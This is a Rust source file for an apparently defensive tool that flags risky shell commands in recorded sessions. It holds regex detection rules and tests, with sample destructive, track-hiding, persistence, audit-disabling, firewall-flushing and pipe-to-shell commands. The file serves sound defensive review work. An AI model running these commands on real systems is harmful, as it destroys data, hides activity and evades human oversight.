//! Risk flags: rules with a label and a severity, matched against each indexed command.
//!
//! The defaults ([`default_rules`]) cover privilege, destruction, hiding tracks, persistence,
//! disabling controls and download-and-run; policy adds `[[review.flag]]` rules. Rules match
//! the command's whole text, quotes included: `echo "rm -rf /"` IS flagged, because text in
//! quotes reaches a shell through `sh -c`, `eval`, `ssh host "..."` or `xargs`, and telling
//! those apart needs a shell parser the recorder does not have. A false positive costs a
//! reviewer one look; a missed `sh -c "rm -rf /"` costs the review.

use regex::Regex;
use serde::{Deserialize, Serialize, Serializer};

use super::commands::Command;

/// How much a flag matters.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Severity {
    /// Worth a look.
    Low,
    /// Look at it.
    Medium,
    /// Look at it first.
    High,
}

impl Severity {
    /// Parses `high`, `medium` or `low`.
    pub fn parse(s: &str) -> Option<Severity> {
        Some(match s {
            "high" => Severity::High,
            "medium" => Severity::Medium,
            "low" => Severity::Low,
            _ => return None,
        })
    }

    /// The lower-case name.
    pub fn as_str(self) -> &'static str {
        match self {
            Severity::High => "high",
            Severity::Medium => "medium",
            Severity::Low => "low",
        }
    }
}

/// One rule: a pattern over the command text.
#[derive(Debug, Clone, Serialize)]
pub struct FlagRule {
    /// The regular expression.
    #[serde(serialize_with = "ser_regex")]
    pub pattern: Regex,
    /// What a match means, e.g. "destruction: recursive rm".
    pub label: String,
    /// How much it matters.
    pub severity: Severity,
}

fn ser_regex<S: Serializer>(r: &Regex, s: S) -> Result<S::Ok, S::Error> {
    s.serialize_str(r.as_str())
}

/// A rule that matched a command.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Flag {
    /// The rule's label.
    pub label: String,
    /// The rule's severity.
    pub severity: Severity,
}

/// A command with the flags it raised.
#[derive(Debug, Clone, Serialize)]
pub struct FlaggedCommand {
    /// The command.
    #[serde(flatten)]
    pub command: Command,
    /// Flags, most severe first.
    pub flags: Vec<Flag>,
}

impl FlaggedCommand {
    /// The most severe flag's severity, if any.
    pub fn severity(&self) -> Option<Severity> {
        self.flags.first().map(|f| f.severity)
    }
}

/// The default rules as `(label, severity, pattern)`; README "Risk flags" lists them.
pub const DEFAULTS: &[(&str, Severity, &str)] = &[
    ("privilege: sudo", Severity::Medium, r"\bsudo\b"),
    (
        "privilege: su",
        Severity::Medium,
        r"(?:^|[\s;&|(`])su(?:\s|$)",
    ),
    (
        "destruction: recursive rm",
        Severity::High,
        r"\brm\s+(?:[^;&|]*\s)?(?:-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)(?:\s|$)",
    ),
    ("destruction: dd of=", Severity::High, r"\bdd\b[^;&|]*\bof="),
    ("destruction: mkfs", Severity::High, r"\bmkfs\b"),
    (
        "hiding tracks: history cleared",
        Severity::High,
        r"\bhistory\s+-[a-zA-Z]*c|\bunset\s+HISTFILE\b|\bHISTFILE=|\bHISTSIZE=0\b|\bset\s+\+o\s+history\b",
    ),
    (
        "hiding tracks: shell history file",
        Severity::High,
        r"\.(?:bash|zsh|sh)_history\b",
    ),
    ("hiding tracks: shred", Severity::High, r"\bshred\b"),
    (
        "persistence: sudoers",
        Severity::High,
        r"/etc/sudoers|\bvisudo\b",
    ),
    (
        "persistence: crontab",
        Severity::Medium,
        r"\bcrontab\s+(?:-[^l\s]|[^-\s])|/etc/cron",
    ),
    (
        "persistence: authorized_keys",
        Severity::High,
        r"\bauthorized_keys2?\b",
    ),
    (
        "persistence: systemd unit",
        Severity::Medium,
        r"/(?:etc|lib|usr/lib)/systemd/system\b|\bsystemctl\s+(?:--\S+\s+)*(?:enable|edit|link|daemon-reload)\b",
    ),
    (
        "disabling controls: agent or audit stopped",
        Severity::High,
        r"\b(?:stop|disable|mask|kill|pkill|killall)\b[^;&|]*\b(?:amazon-ssm-agent|ssm-agent-worker|auditd)\b|\b(?:amazon-ssm-agent|auditd)\b[^;&|]*\b(?:stop|disable|mask)\b|\bauditctl\s+(?:-e\s*0|-D)\b",
    ),
    (
        "disabling controls: firewall flushed",
        Severity::High,
        r"\b(?:ip6?tables|iptables-legacy|iptables-nft)\b[^;&|]*\s(?:-F|--flush)\b|\bnft\s+flush\s+ruleset\b",
    ),
    (
        "download and run: pipe to shell",
        Severity::High,
        r"\b(?:curl|wget)\b[^;&]*\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b|\b(?:ba|z)?sh\b[^;&|]*(?:<\(|\$\()\s*(?:curl|wget)\b",
    ),
    (
        "download and run: base64 to shell",
        Severity::High,
        r"\bbase64\s+(?:-d|--decode|-D)\b[^;&]*\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b",
    ),
];

/// The built-in rules.
pub fn default_rules() -> Vec<FlagRule> {
    DEFAULTS
        .iter()
        .filter_map(|(label, severity, pattern)| {
            // The defaults are constants covered by tests; a bad one is skipped, never a panic.
            Regex::new(pattern).ok().map(|pattern| FlagRule {
                pattern,
                label: label.to_string(),
                severity: *severity,
            })
        })
        .collect()
}

/// The built-in rules followed by `extra` (a policy's `[[review.flag]]`).
pub fn with_defaults(extra: Vec<FlagRule>) -> Vec<FlagRule> {
    let mut rules = default_rules();
    rules.extend(extra);
    rules
}

/// The flags `rules` raise on one command text, most severe first, each label once.
pub fn flags_for(text: &str, rules: &[FlagRule]) -> Vec<Flag> {
    let mut out: Vec<Flag> = Vec::new();
    for r in rules {
        if r.pattern.is_match(text) && !out.iter().any(|f| f.label == r.label) {
            out.push(Flag {
                label: r.label.clone(),
                severity: r.severity,
            });
        }
    }
    out.sort_by_key(|f| std::cmp::Reverse(f.severity));
    out
}

/// Flags every command.
pub fn apply(commands: Vec<Command>, rules: &[FlagRule]) -> Vec<FlaggedCommand> {
    commands
        .into_iter()
        .map(|command| FlaggedCommand {
            flags: flags_for(&command.text, rules),
            command,
        })
        .collect()
}

/// One recording's flagged commands, counted by their highest severity.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct FlagCounts {
    /// Commands whose highest flag is high.
    pub high: usize,
    /// ... medium.
    pub medium: usize,
    /// ... low.
    pub low: usize,
}

impl FlagCounts {
    /// The counts of `commands`.
    pub fn of(commands: &[FlaggedCommand]) -> FlagCounts {
        let (high, medium, low) = counts(commands);
        FlagCounts { high, medium, low }
    }

    /// Flagged commands in all.
    pub fn total(&self) -> usize {
        self.high + self.medium + self.low
    }

    /// `2H 1M 3L` (zero counts left out), `-` when nothing was flagged.
    pub fn badge(&self) -> String {
        let parts: Vec<String> = [(self.high, 'H'), (self.medium, 'M'), (self.low, 'L')]
            .iter()
            .filter(|(n, _)| *n > 0)
            .map(|(n, s)| format!("{n}{s}"))
            .collect();
        if parts.is_empty() {
            "-".into()
        } else {
            parts.join(" ")
        }
    }
}

/// A fingerprint of `rules` (patterns, labels, severities): a cache of counts made under other
/// rules (the policy changed) is not used.
pub fn rules_key(rules: &[FlagRule]) -> u64 {
    use std::hash::{Hash, Hasher};
    let mut h = std::collections::hash_map::DefaultHasher::new();
    for r in rules {
        (r.pattern.as_str(), r.label.as_str(), r.severity.as_str()).hash(&mut h);
    }
    h.finish()
}

/// Counts of flagged commands by their highest severity: `(high, medium, low)`.
pub fn counts(commands: &[FlaggedCommand]) -> (usize, usize, usize) {
    let n = |s| commands.iter().filter(|c| c.severity() == Some(s)).count();
    (n(Severity::High), n(Severity::Medium), n(Severity::Low))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counts_badge_and_rules_key() {
        let none = FlagCounts::default();
        assert_eq!(none.badge(), "-");
        let some = FlagCounts {
            high: 2,
            medium: 0,
            low: 3,
        };
        assert_eq!((some.badge(), some.total()), ("2H 3L".to_string(), 5));
        let defaults = default_rules();
        assert_eq!(rules_key(&defaults), rules_key(&default_rules()));
        assert_ne!(rules_key(&defaults), rules_key(&defaults[1..]));
    }

    fn labels(text: &str) -> Vec<String> {
        flags_for(text, &default_rules())
            .into_iter()
            .map(|f| f.label)
            .collect()
    }

    #[test]
    fn every_default_compiles() {
        assert_eq!(default_rules().len(), DEFAULTS.len());
    }

    #[test]
    fn default_rules_flag_and_do_not_flag() {
        // (command, the label it must raise, or "" for none)
        let table: &[(&str, &str)] = &[
            ("sudo -i", "privilege: sudo"),
            ("ls; sudo cat /etc/shadow", "privilege: sudo"),
            ("su -", "privilege: su"),
            ("su root", "privilege: su"),
            ("echo su", "privilege: su"),
            ("cat summary.txt", ""),
            ("ls /usr/share/sudoku", ""),
            ("rm -rf /var/lib/app", "destruction: recursive rm"),
            ("rm -fr x", "destruction: recursive rm"),
            ("rm -r -f x", "destruction: recursive rm"),
            ("rm --recursive x", "destruction: recursive rm"),
            ("rm x.log", ""),
            ("rm -f x.log", ""),
            ("dd if=/dev/zero of=/dev/xvda bs=1M", "destruction: dd of="),
            ("dd if=/dev/xvda | gzip > img.gz", ""),
            ("mkfs.ext4 /dev/xvdb", "destruction: mkfs"),
            ("mkfs -t xfs /dev/xvdb", "destruction: mkfs"),
            ("history -c", "hiding tracks: history cleared"),
            ("history -cw", "hiding tracks: history cleared"),
            ("unset HISTFILE", "hiding tracks: history cleared"),
            (
                "export HISTFILE=/dev/null",
                "hiding tracks: history cleared",
            ),
            ("history | tail", ""),
            ("vi ~/.bash_history", "hiding tracks: shell history file"),
            ("> /root/.bash_history", "hiding tracks: shell history file"),
            ("shred -u secrets", "hiding tracks: shred"),
            ("vi /etc/sudoers", "persistence: sudoers"),
            ("visudo", "persistence: sudoers"),
            ("cat /etc/sudoers.d/x", "persistence: sudoers"),
            ("crontab -e", "persistence: crontab"),
            ("crontab jobs.txt", "persistence: crontab"),
            ("echo x >> /etc/crontab", "persistence: crontab"),
            ("crontab -l", ""),
            (
                "echo key >> ~/.ssh/authorized_keys",
                "persistence: authorized_keys",
            ),
            (
                "vi /etc/systemd/system/x.service",
                "persistence: systemd unit",
            ),
            ("systemctl enable backdoor", "persistence: systemd unit"),
            ("systemctl status nginx", ""),
            (
                "systemctl stop amazon-ssm-agent",
                "disabling controls: agent or audit stopped",
            ),
            (
                "service auditd stop",
                "disabling controls: agent or audit stopped",
            ),
            (
                "auditctl -e 0",
                "disabling controls: agent or audit stopped",
            ),
            ("pkill auditd", "disabling controls: agent or audit stopped"),
            ("systemctl status auditd", ""),
            ("iptables -F", "disabling controls: firewall flushed"),
            (
                "iptables --flush INPUT",
                "disabling controls: firewall flushed",
            ),
            ("nft flush ruleset", "disabling controls: firewall flushed"),
            ("iptables -L -n", ""),
            (
                "curl -fsSL https://x.example/i.sh | sh",
                "download and run: pipe to shell",
            ),
            (
                "wget -qO- http://x | sudo bash",
                "download and run: pipe to shell",
            ),
            (
                "bash <(curl -s http://x)",
                "download and run: pipe to shell",
            ),
            ("curl -o out.tgz http://x", ""),
            ("curl http://x | jq .", ""),
            (
                "echo aGk= | base64 -d | sh",
                "download and run: base64 to shell",
            ),
            ("base64 -d blob > out", ""),
            // The documented false-positive decision: quoted text is flagged (see module doc).
            ("echo \"rm -rf /\"", "destruction: recursive rm"),
            ("sh -c \"rm -rf /\"", "destruction: recursive rm"),
        ];
        for (text, want) in table {
            let got = labels(text);
            if want.is_empty() {
                assert!(got.is_empty(), "{text:?} raised {got:?}");
            } else {
                assert!(got.iter().any(|l| l == want), "{text:?} raised {got:?}");
            }
        }
    }

    #[test]
    fn most_severe_first_and_counts() {
        let f = flags_for("sudo rm -rf /", &default_rules());
        assert_eq!(f[0].severity, Severity::High);
        assert_eq!(f[1].label, "privilege: sudo");
        let cmd = |t: &str| Command {
            text: t.into(),
            line: 2,
            start: 0.0,
            submitted: 0.0,
            duration: 0.0,
            output_bytes: 0,
            edited: false,
            kind: super::super::commands::CommandKind::Shell,
        };
        let all = apply(
            vec![cmd("sudo ls"), cmd("rm -rf x"), cmd("ls"), cmd("sudo -i")],
            &default_rules(),
        );
        assert_eq!(counts(&all), (1, 2, 0));
    }

    #[test]
    fn policy_review_flags_add_rules_and_bad_ones_name_key_and_line() {
        use crate::policy::Policy;
        use std::path::Path;
        let base = "requesters = [\"*\"]\napprovers = [\"*\"]\n";
        let ok = format!(
            "{base}[[review.flag]]\npattern = '\\bscp\\b'\nlabel = \"exfiltration: scp\"\nseverity = \"low\"\n"
        );
        let p = Policy::parse(&ok, Path::new("policy.toml")).unwrap();
        let mut rules = default_rules();
        rules.extend(p.review_flags);
        let f = flags_for("scp db.sql me@x:", &rules);
        assert_eq!(
            f,
            vec![Flag {
                label: "exfiltration: scp".into(),
                severity: Severity::Low
            }]
        );
        let bad_regex = format!(
            "{base}[[review.flag]]\nlabel = \"x\"\nseverity = \"low\"\npattern = \"(unclosed\"\n"
        );
        let e = Policy::parse(&bad_regex, Path::new("policy.toml"))
            .unwrap_err()
            .to_string();
        assert!(
            e.starts_with("policy file policy.toml, line 6: review.flag.pattern: not a valid regular expression"),
            "{e}"
        );
        let bad_sev = format!(
            "{base}[[review.flag]]\npattern = \"x\"\nlabel = \"x\"\nseverity = \"urgent\"\n"
        );
        let e = Policy::parse(&bad_sev, Path::new("policy.toml"))
            .unwrap_err()
            .to_string();
        assert!(e.contains("line 6: review.flag.severity"), "{e}");
    }
}
